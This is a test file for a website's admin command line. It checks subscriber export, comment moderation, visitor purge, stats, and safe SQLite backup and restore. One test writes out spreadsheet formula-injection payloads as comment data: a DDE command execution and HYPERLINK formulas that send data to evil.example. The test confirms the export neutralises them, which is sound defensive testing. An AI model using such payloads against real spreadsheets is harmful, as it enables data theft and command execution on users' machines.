import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { DatabaseSync } from "node:sqlite";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  commentResponseSchema,
  commentsResponseSchema,
  reactionsResponseSchema,
} from "../../contract/api.ts";
import { migrateToLatest, openStore } from "../../server/db/store.ts";
import { EventStream } from "../support/event-stream.ts";
import { projectRoot } from "../support/server-process.ts";
import { admin, adminEnv, parseExport } from "./support/admin.ts";
import { confirmedSubscriber } from "./support/newsletter.ts";
import {
  backends,
  freshItem,
  json,
  siteUrl,
  startTestApp,
  type TestApp,
} from "./support/test-app.ts";

const scratch = () => mkdtempSync(path.join(os.tmpdir(), "ewe-admin-"));

describe("the admin command line's usage", () => {
  const env = { NODE_ENV: "test", DATA_DIR: scratch() };

  it("lists its commands and exit codes with --help", async () => {
    const run = await admin(env, "--help");
    expect(run.code).toBe(0);
    for (const command of [
      "subscribers list",
      "newsletter preview",
      "newsletter cancel",
      "newsletter send",
      "newsletter status",
      "subscribers export",
      "subscribers remove",
      "comments list",
      "comments delete",
      "visitor purge",
      "stats",
      "backup",
      "restore",
    ]) {
      expect(run.stdout).toContain(command);
    }
    expect(run.stdout).toContain("Exit codes: 0 done, 1 failed, 2 wrong usage, 3 nothing found");
  });

  it("explains one command with <command> --help or help <command>", async () => {
    const flag = await admin(env, "comments", "list", "--help");
    expect(flag.code).toBe(0);
    expect(flag.stdout).toContain("Usage: npm run admin -- comments list [--post ID]");
    expect(flag.stdout).toContain("--since DATE");
    expect((await admin(env, "help", "comments", "list")).stdout).toBe(flag.stdout);
  });

  it.each([
    ["no command", []],
    ["an unknown command", ["comments", "erase", "1"]],
    ["an unknown option", ["stats", "--verbose"]],
    ["a missing argument", ["comments", "delete"]],
    ["an extra argument", ["stats", "now"]],
    ["an id that is not a number", ["comments", "delete", "12abc"]],
    ["an id beyond the column", ["comments", "delete", "2147483648"]],
    ["a date that is not one", ["comments", "list", "--since", "yesterday"]],
    ["a day the calendar does not have", ["comments", "list", "--since", "2026-02-30"]],
    [
      "a time on a day the calendar does not have",
      ["comments", "list", "--since", "2026-02-30T12:00:00Z"],
    ],
    ["readers since a day the calendar does not have", ["readers", "--since", "2026-02-30"]],
    ["purge without --comment", ["visitor", "purge"]],
    ["backup without --out", ["backup"]],
  ])("answers %s with exit code 2 and says why", async (_case, argv) => {
    const run = await admin(env, ...argv);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe("");
    expect(run.stderr.length).toBeGreaterThan(10);
  });

  it("fails with exit code 1 and a clear message when there is no database yet", async () => {
    const run = await admin({ NODE_ENV: "test", DATA_DIR: scratch() }, "stats");
    expect(run.code).toBe(1);
    // Run from another shell than the server's: what it lacks may be either setting.
    expect(run.stderr).toMatch(
      /There is no database at .*engage\.sqlite: give the command the server's DATA_DIR, or its DATABASE_URL for a site on PostgreSQL\./,
    );
  });

  it("validates the environment like the server, exit code 1", async () => {
    const run = await admin({ PORT: "eighty" }, "stats");
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("PORT:");
  });

  it("refuses backup and restore on PostgreSQL, pointing at pg_dump", async () => {
    const env = { NODE_ENV: "test", DATABASE_URL: "postgres://127.0.0.1:1/none" };
    const run = await admin(env, "backup", "--out", path.join(scratch(), "x.sqlite"));
    expect(run.code).toBe(2);
    expect(run.stderr).toContain("pg_dump");
  });
});

describe("the admin command line's loading", () => {
  const adminScript = path.join(projectRoot, "server/cli/admin.ts");
  /** Runs `npm run admin -- <argv>` as its own process; the project's files it loaded. */
  function loadedBy(env: Record<string, string>, ...argv: string[]): string[] {
    const record = path.join(scratch(), "modules.txt");
    execFileSync(
      process.execPath,
      [
        "--import",
        path.join(import.meta.dirname, "support/record-modules.ts"),
        adminScript,
        ...argv,
      ],
      { env: { ...process.env, ...env, RECORD_MODULES: record }, stdio: "ignore" },
    );
    return readFileSync(record, "utf8")
      .trim()
      .split("\n")
      .map((url) => path.relative(projectRoot, fileURLToPath(url)));
  }

  it("lists every command without loading any command's code or the database", () => {
    const loaded = loadedBy({ NODE_ENV: "test" }, "--help");
    expect(loaded).toContain("server/cli/commands/portability.ts");
    expect(loaded.filter((file) => /^server\/cli\/handlers\//.test(file))).toEqual([]);
    expect(loaded).not.toContain("server/db/store.ts");
    expect(loaded.some((file) => file.includes("node_modules/kysely/"))).toBe(false);
  });

  it("loads for export what the export needs, and nothing of the other commands", async () => {
    const dataDir = scratch();
    const store = await openStore({ kind: "sqlite", file: path.join(dataDir, "engage.sqlite") });
    await migrateToLatest(store);
    await store.close();
    const out = path.join(dataDir, "site.json");
    const loaded = loadedBy({ NODE_ENV: "test", DATA_DIR: dataDir }, "export", "--out", out);
    expect(statSync(out).size).toBeGreaterThan(0);
    expect(loaded).toContain("server/portability/export.ts");
    expect(loaded.filter((file) => /^server\/cli\/handlers\//.test(file))).toEqual([
      "server/cli/handlers/export.ts",
    ]);
    for (const other of ["engagement", "moderation", "newsletter", "enquiries", "outbox"]) {
      // But the cookie secret, which signs the comments (server/portability/signature.ts),
      // and what every store of the command line carries: its deletions of outbox rows
      // take their mail files with them.
      const needed =
        other === "engagement"
          ? ["server/engagement/visitor.ts"]
          : other === "outbox"
            ? ["server/outbox/mail-files.ts"]
            : [];
      expect(loaded.filter((file) => file.startsWith(`server/${other}/`))).toEqual(needed);
    }
    for (const library of ["nodemailer", "fast-xml-parser", "csv-parse", "markdown-it"]) {
      expect(loaded.filter((file) => file.includes(`node_modules/${library}/`))).toEqual([]);
    }
  });

  it("erases a Fediverse account without loading Fedify: a server sends what it queues", async () => {
    const dataDir = scratch();
    const file = path.join(dataDir, "engage.sqlite");
    const x = "https://mastodon.example/users/x";
    const store = await openStore({ kind: "sqlite", file });
    await migrateToLatest(store);
    // The owner's answer to X, sent: the erasure takes it back.
    const now = new Date().toISOString();
    await store.db
      .insertInto("fediverse_published")
      .values({
        path: "/notes/41",
        digest: `${x}/statuses/1 ${x}`,
        published_at: now,
        updated_at: now,
      })
      .execute();
    await store.close();
    const env = { NODE_ENV: "test", DATA_DIR: dataDir, SITE_URL: "https://ewe.test" };
    const loaded = loadedBy(env, "fediverse", "erase", x);
    expect(loaded).toContain("server/fediverse/message-queue.ts");
    // Wherever node_modules is (a worktree may link it from elsewhere).
    expect(loaded.filter((file) => file.includes("node_modules/@fedify/"))).toEqual([]);
    const after = await openStore({ kind: "sqlite", file });
    const queued = await after.db.selectFrom("fediverse_queue").select("message").execute();
    await after.close();
    expect(queued.map(({ message }) => JSON.parse(message))).toEqual([
      { type: "ewe:take-back", answers: [41], writer: x },
    ]);
  });
});

describe.each(backends)("the admin command line on %s", (backend) => {
  let t: TestApp;
  let env: Record<string, string>;
  let baseUrl: string;
  const streams: EventStream[] = [];
  const watch = async (topic: string) => {
    const stream = new EventStream(baseUrl, topic);
    streams.push(stream);
    await stream.ready();
    return stream;
  };

  beforeAll(async () => {
    t = await startTestApp(backend);
    env = adminEnv(t);
    baseUrl = await t.app.listen({ host: "127.0.0.1", port: 0 });
  });
  afterEach(() => {
    for (const stream of streams.splice(0)) stream.close();
  });
  afterAll(() => t?.close());

  it("refuses readers since a day after today, naming today in the owner's zone", async () => {
    const zone = "America/New_York";
    const today = new Intl.DateTimeFormat("en-CA", { timeZone: zone }).format(new Date());
    const run = await admin({ ...env, BOOKING_TIMEZONE: zone }, "readers", "--since", "2999-01-01");
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(
      `a first day up to today, ${today} (America / New York), not "2999-01-01"`,
    );
  });

  describe("subscribers", () => {
    it("exports them as CSV with unsubscribe links that work", async () => {
      for (const email of ["first@example.com", "O'Brien@Example.org"]) {
        await confirmedSubscriber(t, email);
      }
      const run = await admin(env, "subscribers", "export");
      expect(run.code).toBe(0);
      const rows = parseExport(run.stdout);
      expect([...rows.keys()]).toEqual(
        expect.arrayContaining(["first@example.com", "O'Brien@Example.org"]),
      );
      const { url, subscribedAt } = rows.get("first@example.com")!;
      expect(subscribedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(url).toMatch(new RegExp(`^${siteUrl}/unsubscribe\\?token=[A-Za-z0-9_-]{43}$`));

      const token = new URL(url).searchParams.get("token");
      const unsubscribed = await t.visitor().post("/api/unsubscribe", { token });
      expect(unsubscribed.statusCode).toBe(200);
      const after = parseExport((await admin(env, "subscribers", "export")).stdout);
      expect(after.has("first@example.com")).toBe(false);
      expect(after.has("O'Brien@Example.org")).toBe(true);
    });

    it("quotes an address that a spreadsheet would take for a formula", async () => {
      for (const email of ["+news@example.com", "-dash@example.com"]) {
        await confirmedSubscriber(t, email);
      }
      const rows = parseExport((await admin(env, "subscribers", "export")).stdout);
      expect([...rows.keys()]).toEqual(
        expect.arrayContaining(["'+news@example.com", "'-dash@example.com"]),
      );
      expect([...rows.keys()].filter((email) => /^[=+\-@\t\r]/.test(email))).toEqual([]);
    });

    it("writes the export to a file only its owner can read", async () => {
      await confirmedSubscriber(t, "filed@example.com");
      const file = path.join(scratch(), "subscribers.csv");
      const run = await admin(env, "subscribers", "export", "--out", file);
      expect(run.code).toBe(0);
      expect(run.stdout).toBe("");
      expect(run.stderr).toMatch(/Wrote \d+ subscribers? to /);
      expect(parseExport(readFileSync(file, "utf8")).has("filed@example.com")).toBe(true);
      expect(statSync(file).mode & 0o777).toBe(0o600);
    });

    it("removes an address in any case; its link then still says unsubscribed", async () => {
      await confirmedSubscriber(t, "leaving@example.com");
      const { url } = parseExport((await admin(env, "subscribers", "export")).stdout).get(
        "leaving@example.com",
      )!;
      const run = await admin(env, "subscribers", "remove", "LEAVING@example.com");
      expect(run).toMatchObject({ code: 0, stdout: "Removed LEAVING@example.com.\n" });
      const token = new URL(url).searchParams.get("token");
      expect((await t.visitor().post("/api/unsubscribe", { token })).statusCode).toBe(200);

      const again = await admin(env, "subscribers", "remove", "leaving@example.com");
      expect(again.code).toBe(3);
      expect(again.stderr).toContain("No subscriber has the address leaving@example.com");
    });
  });

  describe("comments", () => {
    it("lists them by post and since a date, as text and as JSON", async () => {
      const post = freshItem("science");
      const other = freshItem("science");
      await t.visitor().comment(post, "first line\nsecond\tline", "Meera");
      await t.visitor().comment(other, "elsewhere", "Sam");

      const run = await admin(env, "comments", "list", "--post", post);
      expect(run.code).toBe(0);
      const [header, row, ...rest] = run.stdout.trimEnd().split("\n");
      expect(header).toBe("id\tpost\tcreated_at\tname\tcomment\tstatus\treply_to");
      expect(rest).toEqual([]);
      expect(row?.split("\t")).toEqual([
        expect.stringMatching(/^\d+$/),
        post,
        expect.stringMatching(/Z$/),
        "Meera",
        "first line\\nsecond\\tline",
        "published",
      ]);

      const asJson = JSON.parse((await admin(env, "comments", "list", "--json")).stdout);
      expect(asJson.map((c: { postId: string }) => c.postId)).toEqual(
        expect.arrayContaining([post, other]),
      );
      const future = await admin(env, "comments", "list", "--since", "2999-01-01", "--json");
      expect(JSON.parse(future.stdout)).toEqual([]);
      const today = new Date().toISOString().slice(0, 10);
      const recent = await admin(env, "comments", "list", "--since", today, "--post", other);
      expect(recent.stdout).toContain("elsewhere");
    });

    it("quotes names and comments that a spreadsheet would run as formulas, except in JSON", async () => {
      const post = freshItem("science");
      const formulas = [
        ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")'],
        ["+Alex", "-2+3"],
        ["@Sam", "@SUM(1+1)"],
        // Quote-aware importers strip the quotes, or the spaces, and run what is left.
        ['"=1+1"', '"=HYPERLINK(""http://evil.example"",""x"")"'],
        [" =Lee", "\uff1dSUM(1+1)"],
      ];
      for (const [name, content] of formulas) {
        expect((await t.visitor().comment(post, content!, name)).statusCode).toBe(201);
      }
      const run = await admin(env, "comments", "list", "--post", post);
      const rows = run.stdout
        .trimEnd()
        .split("\n")
        .slice(1)
        .map((line) => line.split("\t").slice(3, 5));
      expect(rows).toEqual(formulas.map((cells) => cells.map((cell) => `'${cell}`)));

      const asJson = JSON.parse(
        (await admin(env, "comments", "list", "--post", post, "--json")).stdout,
      );
      expect(
        asJson.map((c: { userName: string; content: string }) => [c.userName, c.content]),
      ).toEqual(formulas);
    });

    it("deletes any comment by id, and open pages see it go", async () => {
      const post = freshItem("science");
      const viewer = await watch(`science:${post}`);
      const { comment } = json(
        await t.visitor().comment(post, "spam, spam, spam"),
        commentResponseSchema,
      );
      await viewer.next("comment");

      const run = await admin(env, "comments", "delete", String(comment.id));
      expect(run).toMatchObject({ code: 0, stdout: `Deleted comment ${comment.id}.\n` });
      const deleted = await viewer.nth("comment", 1);
      expect(deleted.json).toEqual({
        action: "deleted",
        item: { kind: "science", id: post },
        commentId: comment.id,
      });
      expect(
        json(await t.visitor().get(`/api/items/science/${post}/comments`), commentsResponseSchema)
          .comments,
      ).toEqual([]);

      const again = await admin(env, "comments", "delete", String(comment.id));
      expect(again.code).toBe(3);
      expect(again.stderr).toContain(`There is no comment ${comment.id}.`);
    });
  });

  describe("visitor purge", () => {
    it("removes every comment and reaction of one visitor and nobody else's", async () => {
      const [post, story] = [freshItem("science"), freshItem("mythology")];
      const viewer = await watch(`mythology:${story}`);
      const troll = t.visitor();
      const reader = t.visitor();
      const { comment } = json(
        await troll.comment(post, "first abuse", "Troll"),
        commentResponseSchema,
      );
      await troll.comment(post, "second abuse, other name", "Someone Else");
      await troll.react("science", post, "dislike");
      await troll.react("mythology", story, "dislike");
      await reader.comment(post, "a fair comment", "Reader");
      await reader.react("mythology", story, "love");
      await viewer.nth("reaction", 1);

      const run = await admin(env, "visitor", "purge", "--comment", String(comment.id));
      expect(run.code).toBe(0);
      expect(run.stdout).toBe(
        `Removed 2 comments and 2 reactions of the visitor who wrote comment ${comment.id}.\n`,
      );
      const comments = json(
        await reader.get(`/api/items/science/${post}/comments`),
        commentsResponseSchema,
      ).comments;
      expect(comments.map((c) => c.content)).toEqual(["a fair comment"]);
      expect(
        json(await reader.get(`/api/items/mythology/${story}/reactions`), reactionsResponseSchema)
          .counts,
      ).toEqual({
        like: 0,
        love: 1,
        dislike: 0,
        idea: 0,
      });
      expect((await viewer.nth("reaction", 2)).json.counts).toMatchObject({ dislike: 0, love: 1 });

      const gone = await admin(env, "visitor", "purge", "--comment", String(comment.id));
      expect(gone.code).toBe(3);
    });
  });

  it("prints counts per item, as a table and as JSON", async () => {
    const [post, story] = [freshItem("science"), freshItem("mythology")];
    const alex = t.visitor();
    await alex.react("science", post, "idea");
    await alex.react("mythology", story, "like");
    await alex.react("mythology", story, "love");
    await alex.comment(post, "one");
    await alex.comment(post, "two");

    const stats = JSON.parse((await admin(env, "stats", "--json")).stdout);
    expect(stats.subscribers).toBeGreaterThanOrEqual(0);
    expect(stats.items).toEqual(
      expect.arrayContaining([
        {
          kind: "science",
          id: post,
          reactions: { like: 0, love: 0, dislike: 0, idea: 1 },
          comments: 2,
        },
        {
          kind: "mythology",
          id: story,
          reactions: { like: 1, love: 1, dislike: 0, idea: 0 },
          comments: null,
        },
      ]),
    );

    const table = await admin(env, "stats");
    expect(table.code).toBe(0);
    expect(table.stdout).toMatch(
      /^Subscribers: \d+\n\nkind +item +like +love +dislike +idea +comments\n/,
    );
    expect(table.stdout).toMatch(new RegExp(`science +${post} +0 +0 +0 +1 +2\\n`));
    expect(table.stdout).toMatch(new RegExp(`mythology +${story} +1 +1 +0 +0 +-\\n`));
    expect(table.stdout).toMatch(/\ntotal( +\d+){5}\n$/);
  });
});

describe("backup and restore of the SQLite database", () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp("sqlite");
  });
  afterAll(() => t?.close());

  it("backs up while the app has the database open, and never over an existing file", async () => {
    await t.visitor().comment("wifi", "kept in the backup");
    const out = path.join(scratch(), "engage-backup.sqlite");
    const run = await admin(adminEnv(t), "backup", "--out", out);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^Backed up .*engage\.sqlite to .* \(\d+ bytes\)\.\n$/);
    expect(statSync(out).mode & 0o777).toBe(0o600);

    const again = await admin(adminEnv(t), "backup", "--out", out);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain("exists already");
  });

  it("refuses to restore while the database is in use, or from a file that is not a backup", async () => {
    const out = path.join(scratch(), "b.sqlite");
    await admin(adminEnv(t), "backup", "--out", out);
    const inUse = await admin(adminEnv(t), "restore", "--from", out);
    expect(inUse.code).toBe(1);
    expect(inUse.stderr).toContain("is in use: stop the server first");
    // Its copy, made beside the database before the check, is gone.
    expect(readdirSync(t.dataDir).filter((name) => name.includes(".restoring"))).toEqual([]);

    const junk = path.join(scratch(), "junk.sqlite");
    writeFileSync(junk, "not a database at all, just some text that is long enough");
    const bad = await admin(adminEnv(t), "restore", "--from", junk);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/The backup .*junk\.sqlite/);
    expect((await admin(adminEnv(t), "restore", "--from", `${junk}.missing`)).code).toBe(1);
    const folder = scratch();
    const notFile = await admin(adminEnv(t), "restore", "--from", folder);
    expect(notFile.code).toBe(1);
    expect(notFile.stderr).toBe(`${folder} is a folder: name the backup in it.\n`);
  });

  it("refuses a backup with triggers or views, which the site never makes, or from a newer version", async () => {
    const dataDir = path.join(scratch(), "kept");
    const env = adminEnv({ dataDir, databaseUrl: undefined });
    const out = path.join(scratch(), "planted.sqlite");
    expect((await admin(adminEnv(t), "backup", "--out", out)).code).toBe(0);
    const planted = new DatabaseSync(out);
    // Every comment published as it is written, and a later version's migration.
    planted.exec(`create trigger publish after insert on science_comments
      begin update science_comments set status = 'approved' where id = new.id; end`);
    const trigger = await admin(env, "restore", "--from", out);
    expect(trigger.code).toBe(1);
    expect(trigger.stderr).toContain("holds what this site never makes (trigger publish)");
    planted.exec("drop trigger publish");
    planted.exec("insert into kysely_migration (name, timestamp) values ('999_later', '')");
    const newer = await admin(env, "restore", "--from", out);
    expect(newer.code).toBe(1);
    expect(newer.stderr).toContain(
      'made by a newer version of the site (its migration "999_later"',
    );
    planted.exec("delete from kysely_migration where name = '999_later'");
    planted.close();
    expect((await admin(env, "restore", "--from", out)).code).toBe(0);
  });

  it("restores a backup once the server is stopped, keeping the replaced database", async () => {
    const dataDir = path.join(scratch(), "data");
    const first = await startTestApp("sqlite", { dataDir });
    await first.visitor().comment("soap", "before the backup");
    const out = path.join(scratch(), "b.sqlite");
    expect((await admin(adminEnv(first), "backup", "--out", out)).code).toBe(0);
    await first.visitor().comment("soap", "after the backup");
    await first.close();

    const run = await admin(adminEnv(first), "restore", "--from", out);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/kept as .*engage\.sqlite\.before-restore-/);
    // The kept file is one file, the whole database it was: deleting it leaves nothing behind.
    const kept = readdirSync(dataDir).filter((name) => name.includes("before-restore"));
    expect(kept).toHaveLength(1);
    using replaced = new DatabaseSync(path.join(dataDir, kept[0] as string), { readOnly: true });
    expect(replaced.prepare("select content from science_comments order by id").all()).toEqual([
      { content: "before the backup" },
      { content: "after the backup" },
    ]);
    // The secret beside the database it replaced stays: nothing to say about it.
    expect(run.stdout).not.toContain("cookie-secret");

    const restarted = await startTestApp("sqlite", { dataDir });
    try {
      const comments = json(
        await restarted.visitor().get("/api/items/science/soap/comments"),
        commentsResponseSchema,
      );
      expect(comments.comments.map((c) => c.content)).toEqual(["before the backup"]);
    } finally {
      await restarted.close();
    }
  });

  it("says how many mails the restored backup still has to send, which a start sends", async () => {
    const out = path.join(scratch(), "queued.sqlite");
    expect((await admin(adminEnv(t), "backup", "--out", out)).code).toBe(0);
    const env = adminEnv({ dataDir: path.join(scratch(), "queued-data"), databaseUrl: undefined });
    expect((await admin(env, "restore", "--from", out)).stdout).not.toContain("still to send");
    // A call's reminder, queued when the backup was taken: the call may be cancelled since.
    const backup = new DatabaseSync(out);
    backup
      .prepare(
        "insert into outbox (kind, email, status, next_attempt_at, created_at) values ('booking_reminder', 'reader@example.org', 'queued', ?, ?)",
      )
      .run(new Date(Date.now() + 86_400_000).toISOString(), new Date().toISOString());
    backup.close();
    const run = await admin(env, "restore", "--from", out);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      "The backup holds 1 mail still to send (a call's reminders, an edition's copies, notifications), which the server sends once started, also for a call or an edition cancelled since the backup: check `bookings list` and `newsletter status` first.",
    );
  });

  it("restoring into a new data folder says to bring the cookie secret, which the backup does not hold", async () => {
    const out = path.join(scratch(), "moved.sqlite");
    expect((await admin(adminEnv(t), "backup", "--out", out)).code).toBe(0);
    const dataDir = path.join(scratch(), "new-data");
    const run = await admin(
      adminEnv({ dataDir, databaseUrl: undefined }),
      "restore",
      "--from",
      out,
    );
    expect(run.code).toBe(0);
    expect(run.stdout).toContain(
      `There is no ${path.join(dataDir, "cookie-secret")}: put the old site's cookie-secret there before you start the server`,
    );
    // With the secret in place, or given as COOKIE_SECRET, nothing is said.
    const again = await admin(
      { ...adminEnv({ dataDir, databaseUrl: undefined }), COOKIE_SECRET: "s".repeat(40) },
      "restore",
      "--from",
      out,
    );
    expect(again.code).toBe(0);
    expect(again.stdout).not.toContain("cookie-secret");
  });
});
